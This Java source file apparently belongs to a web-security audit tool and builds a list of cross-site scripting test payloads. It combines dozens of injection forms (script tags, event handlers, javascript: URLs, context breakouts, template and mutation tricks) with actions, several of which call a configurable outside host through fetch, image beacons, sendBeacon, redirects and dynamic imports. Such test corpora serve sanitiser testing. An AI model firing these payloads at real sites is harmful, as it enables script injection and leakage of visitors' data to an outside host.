package dev.weirkeeper.audit.console;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that would do something if a page took them for markup: every form crossed with every deed.
 */
final class Payloads {

  private Payloads() {}

  /** The texts; what they ask of the outside goes to a host. */
  static List<String> all(String host) {
    List<String> deeds =
        List.of(
            "alert(1)",
            "window.ran++",
            "fetch('//%s/a')".formatted(host),
            "new Image().src='//%s/b'".formatted(host),
            "document.location='//%s/c'".formatted(host),
            "eval('alert(2)')",
            "top.alert`3`",
            "navigator.sendBeacon('//%s/d')".formatted(host),
            "import('//%s/e.js')".formatted(host));
    List<String> forms =
        List.of(
            "<script>%s</script>",
            "<ScRiPt>%s</sCrIpT>",
            "<img src=x onerror=\"%s\">",
            "<img src=x onerror=%s>",
            "<svg onload=\"%s\">",
            "<svg><script>%s</script></svg>",
            "<svg><animate onbegin=\"%s\" attributeName=x></svg>",
            "<body onload=\"%s\">",
            "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
            "<iframe src=\"javascript:%s\"></iframe>",
            "<a href=\"javascript:%s\">click</a>",
            "<details open ontoggle=\"%s\">x</details>",
            "<input autofocus onfocus=\"%s\">",
            "<video><source onerror=\"%s\"></video>",
            "<math><mtext></mtext><mglyph><style><img src onerror=\"%s\"></style></mglyph></math>",
            "<template><script>%s</script></template>",
            "<object data=\"javascript:%s\"></object>",
            "<embed src=\"javascript:%s\">",
            "<marquee onstart=\"%s\">x</marquee>",
            "<form action=\"javascript:%s\"><button autofocus>x</button></form>",
            "\"><script>%s</script>",
            "'><img src=x onerror=\"%s\">",
            "--><script>%s</script><!--",
            "]]><script>%s</script>",
            "</textarea><script>%s</script>",
            "</title><script>%s</script>",
            "</pre><img src=x onerror=\"%s\">",
            "{{constructor.constructor('%s')()}}",
            "${%s}",
            "`;%s;//",
            "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
            "<!--<img src=\"--><img src=x onerror=%s>\">",
            "<div style=\"background:url(javascript:%s)\">x</div>");
    List<String> all = new ArrayList<>();
    for (String form : forms) {
      for (String deed : deeds) {
        all.add(form.formatted(deed));
      }
    }
    all.addAll(
        List.of(
            "<link rel=stylesheet href=//%s/f.css>".formatted(host),
            "<base href=//%s/>".formatted(host),
            "<meta http-equiv=refresh content=\"0;url=//%s/g\">".formatted(host),
            "<style>@import '//%s/h.css';</style>".formatted(host),
            "<img src=//%s/i.png>".formatted(host),
            "![x](//%s/j.png)".formatted(host),
            "[x](javascript:alert(1))",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "\u202e<script>alert(1)</script>\u202c",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "<a href=\" javascript:alert(1)\">x</a>",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"));
    return all;
  }
}
